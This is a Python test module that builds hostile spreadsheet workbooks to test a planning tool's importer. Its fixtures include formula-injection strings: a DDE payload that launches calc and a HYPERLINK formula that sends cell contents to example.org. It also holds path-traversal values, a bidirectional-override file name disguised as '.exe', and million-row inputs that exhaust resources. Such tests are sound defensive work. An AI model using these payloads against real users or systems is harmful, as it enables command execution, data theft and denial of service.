"""Hostile content in sound workbooks: texts, numbers, and more rows than anyone meant."""

from __future__ import annotations

from typing import TYPE_CHECKING

from case_frames import edited, sheets
from hostile_books import book, cell, damaged, hostile, row

if TYPE_CHECKING:
    from pathlib import Path

    from case_frames import Rows

MILLION = 1_000_000


def renamed(folder: Path, settings: Rows | None = None, **ids: str) -> Path:
    """Write the clean case with other ids: site `hub`, market `M1`, channel `web` and product `tea`."""

    def change(value: object) -> object:
        return ids.get(value, value) if isinstance(value, str) else value

    content = {
        name: [{key: change(value) for key, value in one.items()} for one in rows]
        for name, rows in sheets().items()
    }
    if settings is not None:
        content["settings"] = settings
    return book(folder, **content)


# Texts


FORMULAS = {
    "hub": '=HYPERLINK("http://example.org/?x="&A1,"hub")',
    "M1": "+cmd|' /C calc'!A0",
    "web": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tea": "{=1+1}",
}


@hostile("ids that look like formulas", 0)
def _(folder):
    return renamed(folder, **FORMULAS)


@hostile("ids that look like links", 0)
def _(folder):
    return renamed(
        folder, hub="http://example.org/x", M1="mailto:a@b.c", web="internal:sites!A1", tea="file://x/y"
    )


@hostile("ids that look like paths", 0)
def _(folder):
    return renamed(folder, hub="../../x", M1="C:\\Windows\\x", web="/etc/passwd", tea="..")


@hostile("ids that look like numbers, dates and truths", 0)
def _(folder):
    return renamed(folder, hub="1e5", M1="001", web="TRUE", tea="1-2")


@hostile("ids with markup and quotes", 0)
def _(folder):
    return renamed(folder, hub="[bold red]hub[/]", M1="<b>&amp;</b>", web="we'b\"", tea="%s{0}\\n")


@hostile("mixed alphabets, right-to-left, emoji", 0)
def _(folder):
    return renamed(folder, hub="مستودع‏ 1", M1="תל אביב‎ - Тверь", web="👩🏽‍🚀🇨🇳 e\u0301", tea="茶\u3000ชา")


@hostile("bidirectional overrides and zero widths", 0)
def _(folder):
    return renamed(folder, hub="hub\u202egnp.exe", M1="M\u200b1", web="\u2066web\u2069", tea="te\ufeffa")


@hostile("ids that look alike", 1, "sites")
def _(folder):
    return book(folder, lanes=[*sheets()["lanes"], {"origin": "nоrth", "destination": "hub", "unit_cost": 1}])


for _title, _text in {
    "escape sequence": "hub\x1b[31m",
    "bell": "hub\x07",
    "line break": "h\nub",
    "tab": "h\tub",
    "next line (C1)": "hub\x85x",
    "control sequence (C1)": "hub\x9b31m",
    "non-character": "hub\uffff",
}.items():

    @hostile(f"id with {_title}", 1, "sites!A4")
    def _(folder, text=_text):
        return renamed(folder, hub=text)


for _title, _text in {
    "escaped NUL": "hub_x0000_",
    "escaped control character": "hub_x001B_[31m",
    "character reference": "hub&#x1;",
}.items():

    @hostile(f"id with {_title}", 1, "sites!A4")
    def _(folder, text=_text):
        return damaged(folder, "sites", "<t>hub</t>", f"<t>{text}</t>")


for _title, _text in {
    "NUL": "hub\0",
    "reference to NUL": "hub&#0;",
    "lone surrogate": "hub\ud800",
    "reference to a lone surrogate": "hub&#xD800;",
    "unknown entity": "hub&x;",
}.items():

    @hostile(f"id with {_title}", 1, "sites")
    def _(folder, text=_text):
        return damaged(folder, "sites", "<t>hub</t>", f"<t>{text}</t>")


@hostile("id of 100,000 characters", 1, "sites!A4")
def _(folder):
    return renamed(folder, hub="x" * 100_000)


@hostile("id of 255 characters", 0)
def _(folder):
    return renamed(folder, hub="仓" * 255, web="=" * 255)


@hostile("note of 100,000 characters", 0)
def _(folder):
    return book(folder, sites=edited("sites", 2, notes="x" * 100_000))


@hostile("unknown column of 100,000 characters a cell", 0)
def _(folder):
    return book(folder, sites=edited("sites", 2, remark="=x" * 50_000))


@hostile("number of 100,000 digits", 1, "lanes!C2")
def _(folder):
    return book(folder, lanes=edited("lanes", 0, unit_cost="1" * 100_000))


@hostile("number of 100,000 digits and a letter", 1, "lanes!C2")
def _(folder):
    return book(folder, lanes=edited("lanes", 0, unit_cost="1" * 100_000 + "x"))


@hostile("number in other digits", 1, "lanes!C2")
def _(folder):
    return book(folder, lanes=edited("lanes", 0, unit_cost="１２"))


@hostile("header of 100,000 characters", 0)
def _(folder):
    return book(folder, sites=edited("sites", 2, **{"=x" * 50_000: "x"}))


@hostile("case name and currency that look like formulas", 0)
def _(folder):
    settings = [{"key": "name", "value": "=1+1&&L&R"}, {"key": "currency", "value": "=HYPERLINK(1)"}]
    return book(folder, settings=settings)


@hostile("case name of 30,000 characters", 1, "settings!B2")
def _(folder):
    return book(folder, settings=[{"key": "name", "value": "x" * 30_000}])


@hostile("file name that looks like a formula", 0)
def _(folder):
    return book(folder, "=HYPERLINK(1)&L.xlsx")


@hostile("file name with control characters", 0)
def _(folder):
    return book(folder, "ca\x1b[31mse\n\x85.xlsx")


@hostile("file name that is no UTF-8", 0)
def _(folder):
    return book(folder, "ca\udcffse.xlsx")


@hostile("file name of 250 bytes", 0)
def _(folder):
    return book(folder, "x" * 245 + ".xlsx")


for _name in (
    "../../x",
    "/etc/passwd",
    "CON",
    "..",
    "a/b\\c:d*e?",
    "=1+1",
    "x" * 255,
    "策" * 255,
    "[red]x[/]",
):

    @hostile(f"strategy named {_name[:12]}{'…' if len(_name) > 12 else ''}", 0)
    def _(folder, name=_name):
        return book(folder, strategies=[{"strategy": name, "description": "=1+1", "add": "no"}])


# Numbers


for _number, _status in {"1e308": 1, "1e21": 1, "-1e308": 1, "1e20": 0, "5e-324": 0, "-0": 0}.items():

    @hostile(f"cost of {_number} a unit", _status, "lanes!C2" if _status else "")
    def _(folder, number=_number):
        return damaged(folder, "lanes", cell("C2", 1), f'<c r="C2"><v>{number}</v></c>')


# More than anyone meant


def table(columns: str, line: str, count: int = MILLION) -> str:
    """XML of headers and many rows of text; {0} in a line stands for the number of the row."""
    cells = zip("ABCDEFGH", line.split(), strict=False)
    pattern = "".join(cell(f"{letter}{{0}}", text) for letter, text in cells)
    pattern = f'<row r="{{0}}">{pattern}</row>'
    return row(1, *columns.split()) + "".join(map(pattern.format, range(2, count + 2)))


@hostile("a million settings", 1, "rows", heavy=True)
def _(folder):
    return book(folder, settings=table("key value", "name x{0}"))


@hostile("a million wrong choices", 1, "status", heavy=True)
def _(folder):
    return book(folder, lanes=table("origin destination status", "plant hub exisiting{0}"))


@hostile("a million unknown ids", 1, "sites", heavy=True)
def _(folder):
    return book(folder, lanes=table("origin destination", "x{0} y{0}"))


@hostile("a million rows of one key", 1, "same", heavy=True)
def _(folder):
    return book(folder, lanes=table("origin destination", "plant hub"))


def many_sites(columns: str, line: str, count: int) -> str:
    """Rows of sites, those of the clean case among them."""
    rows = table(columns, line, count)
    for number, site in enumerate(("plant", "north", "hub"), start=2):
        rows = rows.replace(f">s{number}<", f">{site}<")
    return rows


@hostile("a million sites that lead nowhere", 1, "rows", heavy=True)
def _(folder):
    return book(folder, sites=many_sites("site", "s{0}", MILLION))


@hostile("a million changes", 1, "rows", heavy=True)
def _(folder):
    return book(folder, changes=table("strategy sheet column value", "s{0} lanes unit_cost 1"))


@hostile("a million strategies", 1, "rows", heavy=True)
def _(folder):
    return book(folder, strategies=table("strategy", "s{0}"))


@hostile("a million limits", 1, "rows", heavy=True)
def _(folder):
    return book(folder, limits=table("limit measure max site", "l{0} units 1 hub"))


@hostile("a million tariffs of nothing", 1, "subject", heavy=True)
def _(folder):
    return book(folder, rates=table("subject from_units", "s{0} 0"))


@hostile("lane rules for ten billion lanes", 1, "lane_rules", heavy=True)
def _(folder):
    sites = many_sites("site tier latitude longitude", "s{0} shop 30 120", 100_000)
    rules = [{"from_tier": "shop", "to_tier": "shop", "cost_per_km": 1}]
    return book(folder, sites=sites, lane_rules=rules)


@hostile("16,000 unknown columns", 0, heavy=True)
def _(folder):
    lanes = sheets()["lanes"]
    return book(folder, lanes=[lanes[0] | {f"column {number}": 1 for number in range(16_000)}, *lanes[1:]])


@hostile("30 columns of a million numbers", 1, "million cells", heavy=True)
def _(folder):
    line = "".join(f"<c><v>{number}</v></c>" for number in range(31))
    return book(folder, lanes=f"<row>{line}</row>" * MILLION)
